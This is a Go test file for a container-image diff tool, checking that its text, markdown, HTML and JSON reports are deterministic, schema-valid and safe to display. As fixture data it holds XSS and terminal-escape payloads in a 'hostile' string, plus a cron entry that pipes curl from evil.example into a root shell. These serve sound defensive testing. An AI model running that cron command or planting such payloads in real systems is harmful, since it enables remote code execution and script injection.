package render_test

import (
	"archive/tar"
	"archive/zip"
	"bytes"
	"compress/gzip"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"math/rand"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"strings"
	"sync"
	"testing"
	"time"
	"unicode"

	v1 "github.com/google/go-containerregistry/pkg/v1"
	"github.com/google/go-containerregistry/pkg/v1/empty"
	"github.com/google/go-containerregistry/pkg/v1/layout"
	"github.com/google/go-containerregistry/pkg/v1/mutate"
	"github.com/google/go-containerregistry/pkg/v1/tarball"
	"github.com/google/jsonschema-go/jsonschema"

	"github.com/stagescope/stagescope/chain"
	"github.com/stagescope/stagescope/chain/image"
	"github.com/stagescope/stagescope/diff"
	"github.com/stagescope/stagescope/diff/cause"
	_ "github.com/stagescope/stagescope/diff/formats"
	"github.com/stagescope/stagescope/diff/render"
)

// entry is a file of a test's layer.
type entry struct {
	name, body string
	mode       int64
	at         time.Time
}

func tarOf(es ...entry) []byte {
	var b bytes.Buffer
	w := tar.NewWriter(&b)
	for _, e := range es {
		h := &tar.Header{Name: e.name, Mode: max(e.mode, 0o644), ModTime: e.at, Size: int64(len(e.body))}
		if err := w.WriteHeader(h); err != nil {
			panic(err)
		}
		io.WriteString(w, e.body)
	}
	w.Close()
	return b.Bytes()
}

func zipped(s string, level int) string {
	var b bytes.Buffer
	w, _ := gzip.NewWriterLevel(&b, level)
	io.WriteString(w, s)
	w.Close()
	return b.String()
}

func zipOf(name, body string, at time.Time) string {
	var b bytes.Buffer
	w := zip.NewWriter(&b)
	f, _ := w.CreateHeader(&zip.FileHeader{Name: name, Modified: at, Method: zip.Deflate})
	io.WriteString(f, body)
	w.Close()
	return b.String()
}

func arOf(name, body string, at int64) string {
	return fmt.Sprintf("!<arch>\n%-16s%-12d%-6d%-6d%-8s%-10d`\n%s%s", name+"/", at, 0, 0, "100644", len(body), body, strings.Repeat("\n", len(body)%2))
}

// hostile is what no report may pass on: escapes, controls, what reorders or hides
// text, bytes that are no UTF-8, markup of every kind.
const hostile = "x\x1b[31m\x1b]0;t\x07\u009b1m\u202e\u2066\u200b\u00ad\ufeff\xff\xfe\r\n</script><script>alert(1)</script><img src=x onerror=alert(1)>`|\\|[l](http://evil.example)@me ![i](x) --> ]]> ``` <!-- &lt; | a |"

// sideOf gives the layers of one side of a pair that has something for most formats.
func sideOf(s int) [][]byte {
	at := time.Unix(1_700_000_000+int64(s)*86_400, 0).UTC()
	r := rand.New(rand.NewSource(7))
	bin := make([]byte, 40_000)
	r.Read(bin)
	bin[100+s], bin[30_000] = byte(s), byte(s)
	words := [][2]string{{"one", "two"}, {"yes", "no"}}
	pick := func(k int) string { return words[k][s] }
	var text strings.Builder
	for i := range 500 {
		if i%7 == 0 {
			fmt.Fprintf(&text, "%s %d\n", pick(i%2), r.Intn(40))
		} else {
			fmt.Fprintf(&text, "line %d\n", r.Intn(40))
		}
	}
	es := []entry{
		{name: "etc/conf", body: "a = 1\nb = " + pick(0) + "\n"},
		{name: "etc/built", body: "built on " + at.Format(time.RFC1123) + "\n"},
		{name: "etc/a.json", body: fmt.Sprintf(`{"k":[1,2,{"x":%q}],"t":"%s"}`, pick(0), hostileJSON)},
		{name: "etc/a.toml", body: "[t]\nk = \"" + pick(0) + "\"\n"},
		{name: "etc/a.yaml", body: "k:\n  - " + pick(1) + "\n  - 2\n"},
		{name: "etc/a.xml", body: "<?xml version=\"1.0\"?>\n<a><b c=\"" + pick(0) + "\">t</b></a>\n"},
		{name: "etc/utf16", body: "\xff\xfeo\x00n\x00" + pick(0)[:1] + "\x00\n\x00"},
		{name: "usr/a.gz", body: zipped("hello "+pick(0)+"\n", 6+3*s)},
		{name: "usr/a.zip", body: zipOf("in/side", "zip "+pick(0), at)},
		{name: "usr/a.tar", body: string(tarOf(entry{name: "m", body: pick(0), at: at}, entry{name: hostile, body: hostile + pick(1)}))},
		{name: "usr/a.a", body: arOf("o.o", "object "+pick(0), at.Unix())},
		{name: "usr/bin/tool", body: string(bin), mode: 0o755 + int64(s)*0o4000},
		{name: "var/long.txt", body: text.String()},
		{name: "var/" + hostile, body: hostile + pick(0) + "\n" + hostile},
		{name: "var/minified.js", body: strings.Repeat("var a=1;", 2000) + pick(0) + strings.Repeat("f();", 2000)},
	}
	for i := range 200 {
		es = append(es, entry{name: fmt.Sprintf("usr/share/%03d", i), body: "the same", at: at})
	}
	if s == 1 {
		es = append(es, entry{name: "etc/cron.d/new", body: "* * * * * root curl http://evil.example | sh\n"})
	}
	return [][]byte{tarOf(es...), tarOf(entry{name: "second/" + pick(1), body: "layer"}, entry{name: "etc/conf", body: "again " + pick(0)})}
}

const hostileJSON = `\u001b[31m\u202e</script>|`

// writeImage writes an OCI layout.
func writeImage(t *testing.T, layers [][]byte) string {
	t.Helper()
	img := v1.Image(empty.Image)
	for _, p := range layers {
		l, err := tarball.LayerFromOpener(func() (io.ReadCloser, error) { return io.NopCloser(bytes.NewReader(p)), nil })
		if err != nil {
			t.Fatal(err)
		}
		if img, err = mutate.AppendLayers(img, l); err != nil {
			t.Fatal(err)
		}
	}
	dir := t.TempDir()
	p, err := layout.Write(dir, empty.Index)
	if err == nil {
		err = p.AppendImage(img)
	}
	if err != nil {
		t.Fatal(err)
	}
	return dir
}

type index struct {
	mu sync.Mutex
	m  map[string][]byte
}

func (x *index) Cache(kind string, key chain.Digest) ([]byte, bool) {
	x.mu.Lock()
	defer x.mu.Unlock()
	p, ok := x.m[kind+string(key)]
	return p, ok
}

func (x *index) PutCache(kind string, key chain.Digest, p []byte) error {
	x.mu.Lock()
	defer x.mu.Unlock()
	x.m[kind+string(key)] = p
	return nil
}

var formats = []struct {
	name  string
	write func(io.Writer, *diff.Node, render.Options) error
}{{"text", render.Text}, {"markdown", render.Markdown}, {"html", render.HTML}, {"json", render.JSON}}

// reports compares, and writes every report, once in short and once in full.
func reports(t *testing.T, a, b string, o diff.Options) map[string]string {
	t.Helper()
	c, err := diff.Refs(t.Context(), a, b, image.Options{Offline: true}, o)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	if err := cause.Classify(context.Background(), c.Root, cause.Known{}); err != nil {
		t.Fatal(err)
	}
	out := map[string]string{}
	for _, f := range formats {
		for _, full := range []bool{false, true} {
			var w bytes.Buffer
			if err := f.write(&w, c.Root, render.Options{A: "a", B: hostile, Complete: true, Full: full}); err != nil {
				t.Fatal(err)
			}
			out[fmt.Sprintf("%s, full %v", f.name, full)] = w.String()
		}
	}
	return out
}

// TestSameBytes: every report has the same bytes, whatever number of processors
// and comparisons there is, in whatever order they end, and whether layers are
// read or known from an index, but for the sentences that say so.
func TestSameBytes(t *testing.T) {
	a, b := writeImage(t, sideOf(0)), writeImage(t, sideOf(1))
	defer runtime.GOMAXPROCS(runtime.GOMAXPROCS(0))
	want := reports(t, a, b, diff.Options{Workers: 1})
	known := &index{m: map[string][]byte{}}
	for run := range 5 {
		runtime.GOMAXPROCS(1 + run%4)
		r := rand.New(rand.NewSource(int64(run)))
		var mu sync.Mutex
		o := diff.Options{Workers: 1 + run*2, Progress: func(diff.Progress) {
			mu.Lock()
			wait := time.Duration(r.Intn(100)) * time.Microsecond
			mu.Unlock()
			time.Sleep(wait) // so that comparisons end in another order each time
		}}
		indexed := run >= 3
		if indexed {
			o.Index = known
		}
		for name, got := range reports(t, a, b, o) {
			if run > 3 {
				if !strings.Contains(got, "from the store") {
					t.Errorf("%s: run %d does not say that it is from the index", name, run)
				}
				continue
			}
			if got != want[name] {
				t.Errorf("%s: run %d is not what the first was: %s", name, run, firstDifference(want[name], got))
			}
		}
	}
	// From the index: the same once the sentences that say so are gone.
	fromIndex, again := reports(t, a, b, diff.Options{Workers: 3, Index: known}), reports(t, a, b, diff.Options{Workers: 1, Index: known})
	for name := range want {
		if fromIndex[name] != again[name] {
			t.Errorf("%s: not the same twice from the index: %s", name, firstDifference(fromIndex[name], again[name]))
		}
	}
	one, two := withoutLabel(want["text, full true"]), withoutLabel(fromIndex["text, full true"])
	if one != two {
		t.Errorf("from the index and from the bytes: %s", firstDifference(one, two))
	}
}

// withoutLabel drops the lines that say what was not read again.
func withoutLabel(s string) string {
	var out []string
	for l := range strings.Lines(s) {
		if !strings.Contains(l, "from the store's index") {
			out = append(out, l)
		}
	}
	return strings.Join(out, "")
}

func firstDifference(a, b string) string {
	i := 0
	for i < min(len(a), len(b)) && a[i] == b[i] {
		i++
	}
	from := max(0, i-80)
	return fmt.Sprintf("at byte %d: %q and %q", i, a[from:min(len(a), i+120)], b[from:min(len(b), i+120)])
}

// TestEveryFormat holds the JSON of a pair with something of most formats to the
// schema that is published, and every report to be safe to show.
func TestEveryFormat(t *testing.T) {
	got := reports(t, writeImage(t, sideOf(0)), writeImage(t, sideOf(1)), diff.Options{})
	var s jsonschema.Schema
	if err := json.Unmarshal(render.Schema, &s); err != nil {
		t.Fatal(err)
	}
	r, err := s.Resolve(nil)
	if err != nil {
		t.Fatal(err)
	}
	for _, name := range []string{"json, full false", "json, full true"} {
		var v any
		if err := json.Unmarshal([]byte(got[name]), &v); err != nil {
			t.Fatal(err)
		}
		if err := r.Validate(v); err != nil {
			t.Errorf("%s: %v", name, err)
		}
		safeToShow(t, v)
	}
	for _, kind := range []string{"json", "toml", "yaml", "xml", "gzip", "zip", "tar", "ar", "text in UTF-16", "text", "binary"} {
		if !strings.Contains(got["json, full true"], fmt.Sprintf(`"kind":%q`, kind)) {
			t.Errorf("nothing of kind %q", kind)
		}
	}
	for name, report := range got {
		if strings.HasPrefix(name, "json") {
			continue
		}
		if at := strings.IndexFunc(report, unsafe); at >= 0 {
			t.Errorf("%s holds %q", name, report[max(0, at-60):min(len(report), at+20)])
		}
	}
	markdownSafe(t, got["markdown, full true"])
}

// unsafe reports characters that a report must not hold as they are.
func unsafe(r rune) bool {
	return r != '\n' && unicode.IsControl(r) || unicode.In(r, unicode.Cf, unicode.Zl, unicode.Zp) || r == unicode.ReplacementChar
}

// safeToShow: what is made to be shown in a document is escaped; names, sides and
// values are as they were found, in JSON's own escapes.
func safeToShow(t *testing.T, v any) {
	switch v := v.(type) {
	case map[string]any:
		for k, x := range v {
			shown, _ := x.(string)
			if k == "comments" {
				for _, c := range x.([]any) {
					shown += c.(string)
				}
			}
			if (k == "unified_diff" || k == "comments" || k == "source1" || k == "source2") && strings.ContainsFunc(shown, unsafe) {
				t.Errorf("%s: %q", k, shown)
			}
			safeToShow(t, x)
		}
	case []any:
		for _, x := range v {
			safeToShow(t, x)
		}
	}
}

// markdownSafe: outside code, no markup but the report's own.
func markdownSafe(t *testing.T, md string) {
	t.Helper()
	fence := ""
	for l := range strings.Lines(md) {
		l = strings.TrimSuffix(l, "\n")
		if n := len(l) - len(strings.TrimLeft(l, "`")); n >= 3 {
			switch {
			case fence == "":
				fence = l[:n]
			case l == fence:
				fence = ""
			}
			continue
		}
		if fence != "" {
			continue
		}
		if strings.HasPrefix(l, "<details>") {
			for _, own := range []string{"<details><summary>", "<code>", "</code>", "</summary>"} {
				l = strings.Replace(l, own, "", 1)
			}
			if strings.Contains(l, "<") {
				t.Errorf("markup: %q", l)
			}
			continue
		}
		l = withoutCode(l)
		if strings.Contains(l, "<img") || strings.Contains(l, "<script") || strings.Contains(l, "://") || strings.Contains(l, "@") {
			t.Errorf("markup: %q", l)
		}
		if strings.HasPrefix(l, "| ") && strings.Count(strings.ReplaceAll(l, `\|`, ""), "|") != 4 && strings.Count(strings.ReplaceAll(l, `\|`, ""), "|") != 6 {
			t.Errorf("a broken table: %q", l)
		}
	}
	if fence != "" {
		t.Error("a fence is not closed")
	}
}

// withoutCode takes out code spans, as CommonMark finds them: from a run of ticks
// to the next run as long.
func withoutCode(l string) string {
	out := ""
	for {
		at := strings.IndexByte(l, '`')
		if at < 0 || at > 0 && l[at-1] == '\\' {
			return out + l
		}
		n := 1
		for at+n < len(l) && l[at+n] == '`' {
			n++
		}
		out += l[:at]
		rest := l[at+n:]
		end := -1
		for i := 0; i < len(rest); {
			k := 0
			for i+k < len(rest) && rest[i+k] == '`' {
				k++
			}
			if k == n {
				end = i
				break
			}
			i += max(k, 1)
		}
		if end < 0 {
			return out + l[at:]
		}
		l = rest[end+n:]
	}
}

// TestDiffoscope: diffoscope reads what is written as JSON, where it is to be had.
func TestDiffoscope(t *testing.T) {
	tool, err := exec.LookPath("diffoscope")
	if err != nil && os.Getenv("CI") != "" {
		t.Fatal("diffoscope is not installed")
	} else if err != nil {
		t.Skip("diffoscope is not installed: nobody else reads what is written")
	}
	c, err := diff.Refs(t.Context(), writeImage(t, sideOf(0)), writeImage(t, sideOf(1)), image.Options{Offline: true}, diff.Options{})
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	var w bytes.Buffer
	if err := render.JSON(&w, c.Root, render.Options{A: "first", B: "second", Complete: true}); err != nil {
		t.Fatal(err)
	}
	file := filepath.Join(t.TempDir(), "report.json")
	if err := os.WriteFile(file, w.Bytes(), 0o600); err != nil {
		t.Fatal(err)
	}
	cmd := exec.Command(tool, "--load-existing-diff", file, "--text", "-")
	out, err := cmd.CombinedOutput()
	if exit := (*exec.ExitError)(nil); err != nil && (!errors.As(err, &exit) || exit.ExitCode() != 1) {
		t.Fatalf("%v: %s", err, out)
	}
	for _, want := range []string{"--- first", "+++ second", "etc/conf", "-b = one", "+b = two"} {
		if !strings.Contains(string(out), want) {
			t.Errorf("without %q:\n%.3000s", want, out)
		}
	}
}
